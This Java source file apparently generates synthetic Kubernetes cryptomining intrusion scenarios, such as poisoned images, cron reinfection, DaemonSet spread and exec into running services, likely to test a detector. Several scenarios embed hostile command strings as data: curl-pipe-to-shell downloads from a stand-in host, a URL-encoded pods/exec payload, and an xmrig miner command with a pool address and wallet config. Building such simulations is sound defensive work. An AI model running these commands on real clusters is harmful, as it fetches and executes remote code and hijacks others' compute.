package io.firedamp.samples.family;

import static io.firedamp.samples.load.Loads.after;
import static io.firedamp.samples.load.Loads.daily;
import static io.firedamp.samples.load.Loads.flat;
import static io.firedamp.samples.load.Loads.sum;
import static io.firedamp.samples.load.Loads.whenever;

import io.firedamp.samples.estate.ContainerPlan;
import io.firedamp.samples.estate.Workload;
import io.firedamp.samples.estate.Workload.Act;
import io.firedamp.samples.estate.Workload.Kind;
import io.firedamp.samples.estate.Workload.Leg;
import io.firedamp.samples.traffic.Habit;
import io.firedamp.samples.traffic.Habits;
import io.firedamp.samples.traffic.Peer;
import io.firedamp.samples.traffic.Peer.Speech;
import java.time.Duration;
import java.time.Instant;
import java.util.List;

/** Attacks told apart by how they come in and stay. */
final class AttackEntries {
  private static final String OUTSIDER = "203.0.113.66";

  private AttackEntries() {}

  static void preinstalled(Stage stage) {
    Miner miner = new Miner(stage, 4);
    Workload tomcat = stage.workload(Kind.DEPLOYMENT, "dev", "tomcat");
    mineSteadily(
        stage,
        tomcat,
        miner,
        miner.container("tomcat", stage.stranger("tomcat11")),
        miner.unlisted());
  }

  static void latent(Stage stage) {
    Miner miner = new Miner(stage, 4);
    Workload cron = stage.workload(Kind.DEPLOYMENT, "dev", "cron");
    Instant start = stage.around(0.3);
    Duration sleep = stage.atMost(Duration.ofHours(60), 0.3);
    ContainerPlan container =
        miner
            .container("cron", stage.stranger("cron"))
            .asking(after(flat(0.01, 0.3), sleep, miner.load()));
    Habit[] talk =
        miner.talksTo(miner.unlisted()).stream()
            .map(each -> Habits.later(sleep, each))
            .toArray(Habit[]::new);
    stage.runs(cron, miner.replicas(), start, List.of(), List.of(container), talk);
    mined(stage, cron, miner, start.plus(sleep), Leg.IMAGE, Leg.COMPUTE, Leg.NETWORK);
  }

  static void openConsole(Stage stage) {
    Miner miner = new Miner(stage, 4);
    Workload pod =
        stage.workload(Kind.POD, "default", "kube-proxy").by("system:anonymous", OUTSIDER);
    ContainerPlan container =
        miner
            .container("main", stage.official("ubuntu", "22.04"))
            .running("bash", "-c", "curl -fsSL http://198.51.100.23/x.sh | bash");
    mineSteadily(stage, pod, miner, container, miner.unlisted());
  }

  static void execIntoKnown(Stage stage) {
    Workload web = knownService(stage, "portal");
    Instant entered = stage.around(0.6);
    turn(stage, web, entered, true);
  }

  static void trustedTurned(Stage stage) {
    turn(stage, knownService(stage, "forum"), stage.around(0.6), false);
  }

  /** A service that has run from the start, and mines from a time on beside its work. */
  private static void turn(Stage stage, Workload web, Instant from, boolean entered) {
    Miner miner = new Miner(stage, 2);
    ContainerPlan app =
        ContainerPlan.of(
                "app",
                stage.own(web, 4),
                sum(
                    daily(0.05, 0.5, 15, 0.3),
                    whenever(at -> at.isBefore(from), flat(0, 0), miner.load())))
            .limitedTo(2)
            .writing(5_000)
            .talking(1_000, 20_000);
    Duration wait = Duration.between(stage.from(), from);
    Habit[] talk =
        miner.talksTo(miner.unlisted()).stream()
            .map(each -> Habits.later(wait, each))
            .toArray(Habit[]::new);
    stage.runs(web, 1, stage.from(), List.of(), List.of(app), talk);
    if (entered) {
      web.done(
          new Act(
              from.minusSeconds(30),
              "system:serviceaccount:portal:default",
              OUTSIDER,
              "create",
              "pods/exec",
              "command=sh&command=-c&command=curl+-s+http%3A%2F%2F198.51.100.23%2Fl.sh+%7C+sh&container=app&stdout=true",
              ""));
      mined(stage, web, miner, from, Leg.ACCESS, Leg.COMPUTE, Leg.NETWORK);
    } else {
      mined(stage, web, miner, from, Leg.COMPUTE, Leg.NETWORK);
    }
  }

  private static Workload knownService(Stage stage, String stem) {
    return stage.workload(Kind.DEPLOYMENT, stem, stem);
  }

  static void cronJob(Stage stage) {
    Miner miner = new Miner(stage, 3);
    Workload cron = stage.workload(Kind.CRONJOB, "batch", "tick").by("intern", "10.0.0.77");
    ContainerPlan container = miner.container("tick", stage.stranger("tick"));
    Instant start = stage.around(0.5);
    Habit[] talk = miner.talksTo(miner.unlisted()).toArray(Habit[]::new);
    for (Instant at = start; at.isBefore(stage.until()); at = at.plus(Duration.ofMinutes(30))) {
      stage.run(cron, at, Duration.ofMinutes(25), List.of(container), talk);
    }
    mined(stage, cron, miner, start, Leg.IMAGE, Leg.COMPUTE, Leg.NETWORK);
  }

  static void reinfection(Stage stage) {
    Miner miner = new Miner(stage, 4);
    Workload cron = stage.workload(Kind.CRONJOB, "batch", "mysql").by("intern", "10.0.0.77");
    ContainerPlan container = miner.container("mysql", stage.stranger("mysql2"));
    Instant start = stage.around(0.5);
    Habit[] talk = miner.talksTo(miner.listed(Speech.UNKNOWN)).toArray(Habit[]::new);
    Duration length = stage.atMost(Duration.ofHours(36), 0.4);
    for (Instant at = start; at.isBefore(start.plus(length)); at = at.plusSeconds(300)) {
      stage.run(cron, at, Duration.ofSeconds(270), List.of(container), talk);
    }
    mined(stage, cron, miner, start, Leg.IMAGE, Leg.COMPUTE, Leg.NETWORK);
  }

  static void daemonSetSpread(Stage stage) {
    Miner miner = new Miner(stage, 6);
    Workload spread =
        stage
            .workload(Kind.DAEMONSET, "default", "node-tuner")
            .by("intern", "10.0.0.77")
            .everywhere();
    Instant start = stage.around(0.55);
    ContainerPlan container = miner.container("tuner", stage.stranger("tuner"));
    stage.runs(
        spread,
        stage.nodes(),
        start,
        List.of(),
        List.of(container),
        miner.talksTo(miner.listed(Speech.UNKNOWN)).toArray(Habit[]::new));
    mined(stage, spread, miner, start, Leg.IMAGE, Leg.ACCESS, Leg.COMPUTE, Leg.NETWORK);
  }

  static void ownBuildOnFlaggedBase(Stage stage) {
    Miner miner = new Miner(stage, 2);
    Workload app = stage.workload(Kind.DEPLOYMENT, "shop", "mailer");
    ContainerPlan clean =
        ContainerPlan.of("mailer", stage.own(app, 1), daily(0.05, 0.4, 14, 0.3)).limitedTo(2);
    Instant poisoned = stage.around(0.55);
    ContainerPlan bad =
        ContainerPlan.of("mailer", stage.own(app, 2), sum(daily(0.05, 0.4, 14, 0.3), miner.load()))
            .limitedTo(2)
            .inMemory(2.4e9);
    Peer pool = miner.unlisted();
    stage.runs(app, 2, stage.from(), poisoned, List.of(clean));
    stage.runs(
        app, 2, poisoned, List.of(), List.of(bad), miner.talksTo(pool).toArray(Habit[]::new));
    mined(stage, app, miner, poisoned, Leg.IMAGE, Leg.COMPUTE, Leg.NETWORK);
  }

  static void mirroredFirst(Stage stage) {
    Miner miner = new Miner(stage, 4);
    Workload early = stage.workload(Kind.POD, "qa", "try");
    Workload late = stage.workload(Kind.DEPLOYMENT, "qa", "runner");
    ContainerPlan container = miner.container("runner", stage.stranger("runner"));
    ContainerPlan harmless =
        ContainerPlan.of("try", container.image(), flat(0.01, 0.3)).limitedTo(1);
    stage.run(
        early, stage.around(0.15), stage.atMost(Duration.ofMinutes(20), 0.1), List.of(harmless));
    mineSteadily(stage, late, miner, container, miner.unlisted(), Leg.COMPUTE, Leg.NETWORK);
  }

  static void inlineCommand(Stage stage) {
    Miner miner = new Miner(stage, 4);
    Workload worker =
        stage.workload(Kind.DEPLOYMENT, "default", "worker").by("intern", "10.0.0.77");
    ContainerPlan container =
        miner
            .container("worker", stage.official("alpine", "3.19"))
            .running(
                "sh",
                "-c",
                "pkill -f kinsing; /tmp/xmrig --donate-level 1 -o stratum+tcp://198.51.100.23:3333 -u wallet -p x");
    mineSteadily(
        stage, worker, miner, container, miner.unlisted(), Leg.ACCESS, Leg.COMPUTE, Leg.NETWORK);
  }

  static void walletInConfigMap(Stage stage) {
    Miner miner = new Miner(stage, 4);
    Workload worker =
        stage.workload(Kind.DEPLOYMENT, "default", "indexer").by("intern", "10.0.0.77");
    ContainerPlan container = miner.container("indexer", stage.stranger("indexer"));
    Instant start = mineSteadily(stage, worker, miner, container, miner.unlisted());
    worker.done(
        new Act(
            start.minusSeconds(20),
            "intern",
            "10.0.0.77",
            "create",
            "configmaps",
            "",
            """
            {"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"indexer-config"},"data":{"config.json":\
            "{\\"pools\\":[{\\"url\\":\\"198.51.100.23:3333\\",\\"user\\":\\"wallet\\",\\"algo\\":\\"rx/0\\"}],\\"donate-level\\":1}"}}"""));
  }

  /** Mines from the middle of the estate to its end, with every leg to be seen. */
  static Instant mineSteadily(
      Stage stage, Workload workload, Miner miner, ContainerPlan container, Peer pool) {
    return mineSteadily(
        stage, workload, miner, container, pool, Leg.IMAGE, Leg.COMPUTE, Leg.NETWORK);
  }

  static Instant mineSteadily(
      Stage stage,
      Workload workload,
      Miner miner,
      ContainerPlan container,
      Peer pool,
      Leg... shows) {
    Instant start = stage.around(0.55);
    stage.runs(
        workload,
        miner.replicas(),
        start,
        List.of(),
        List.of(container),
        miner.talksTo(pool).toArray(Habit[]::new));
    mined(stage, workload, miner, start, shows);
    return start;
  }

  static void mined(Stage stage, Workload workload, Miner miner, Instant from, Leg... shows) {
    workload.mines(from, stage.until(), from.plusSeconds(15), miner.share(), shows);
  }
}
